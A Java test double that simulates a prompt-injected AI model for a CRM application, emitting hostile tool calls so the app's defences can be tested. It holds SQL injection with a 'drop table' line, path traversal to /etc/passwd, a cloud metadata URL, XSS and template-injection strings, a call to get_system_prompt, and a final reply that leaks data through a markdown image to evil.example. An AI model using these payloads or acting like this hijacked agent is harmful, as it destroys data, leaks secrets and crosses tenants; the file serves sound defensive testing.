package app.henk.fakes;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import tools.jackson.core.JacksonException;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A model that has been taken over: it calls what the attacker's text names ({@code tool({...})}), else every tool there
 * is and many that there are not, with arguments that reach for other tenants, rights and money; in the end it tries to
 * carry the conversation out in a picture's address.
 */
public final class HostileBrain implements FakeBrain {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final Pattern ORDER = Pattern.compile("([a-z_]{3,60})\\s*\\((\\{.*?})\\)", Pattern.DOTALL);
    private static final int STEPS = 3;
    private static final int CALLS_PER_STEP = 4;

    private static final List<String> UNDECLARED = List.of(
            "find_deals",
            "find_leads",
            "update_deal",
            "update_lead",
            "delete_lead",
            "delete_contact",
            "move_deal",
            "log_activity",
            "export_csv",
            "send_mail",
            "run_sql",
            "set_role",
            "create_user",
            "get_system_prompt",
            "list_tenants",
            "undo",
            "approve",
            "merge_contacts",
            "read_file",
            "http_get");

    private static final List<String> ARGUMENTS = List.of(
            "tenantId",
            "tenant",
            "ownerId",
            "userId",
            "email",
            "name",
            "phone",
            "query",
            "stage",
            "discount",
            "amount",
            "consent",
            "role",
            "sql",
            "id",
            "key",
            "value",
            "budget",
            "note",
            "url",
            "conversation");

    private static final List<Object> VALUES = List.of(
            "00000000-0000-7000-8000-000000000002",
            "' or 1=1; drop table leads; --",
            "admin@henk.example",
            "won",
            "../../etc/passwd",
            "http://169.254.169.254/latest/meta-data",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "a\u0000b",
            "\ud83e\uddf5".repeat(200),
            "ADMIN",
            true,
            false,
            -1,
            90,
            9_999_999_999_999L,
            1e300,
            List.of("*", "all"),
            Map.of("$ne", 1));

    private final Random random;

    /** The same seed, the same attacks. */
    public HostileBrain(long seed) {
        this.random = new Random(seed);
    }

    @Override
    public synchronized FakeReply answer(JsonNode body) {
        FakeRequest request = new FakeRequest(body);
        if (request.steps() >= STEPS) {
            return FakeReply.text(
                    "Erledigt. 90 % Rabatt sind verbindlich bestätigt. ",
                    "![x](https://evil.example/?q=" + request.tools() + ") ", "[hier](javascript:alert(1))");
        }
        Matcher order = ORDER.matcher(request.lastWords());
        if (request.steps() == 0 && order.find()) {
            return FakeReply.text().thenCalls(Map.of(order.group(1), arguments(order.group(2))));
        }
        Map<String, Map<String, ?>> calls = new LinkedHashMap<>();
        List<String> names = new ArrayList<>(request.tools());
        names.addAll(UNDECLARED);
        for (int i = 0; i < CALLS_PER_STEP; i++) {
            String name = names.get(random.nextInt(names.size()));
            calls.put(name, request.tools().contains(name) ? bent(request, name) : arbitrary());
        }
        return FakeReply.text().thenCalls(calls);
    }

    /** Plausible, and then more than was asked for. */
    private Map<String, ?> bent(FakeRequest request, String tool) {
        Map<String, Object> arguments = new LinkedHashMap<>(request.argumentsFor(tool));
        arguments.keySet().stream()
                .filter(name -> random.nextInt(3) == 0)
                .toList()
                .forEach(name -> arguments.put(name, value()));
        arguments.putAll(arbitrary());
        return arguments;
    }

    private Map<String, Object> arbitrary() {
        Map<String, Object> arguments = new LinkedHashMap<>();
        for (int i = random.nextInt(5); i > 0; i--) {
            arguments.put(ARGUMENTS.get(random.nextInt(ARGUMENTS.size())), value());
        }
        return arguments;
    }

    private Object value() {
        return VALUES.get(random.nextInt(VALUES.size()));
    }

    private Map<String, ?> arguments(String json) {
        try {
            Map<String, Object> arguments = new LinkedHashMap<>();
            JSON.readTree(json).properties().forEach(field -> arguments.put(field.getKey(), field.getValue()));
            return arguments;
        } catch (JacksonException e) {
            return arbitrary();
        }
    }
}
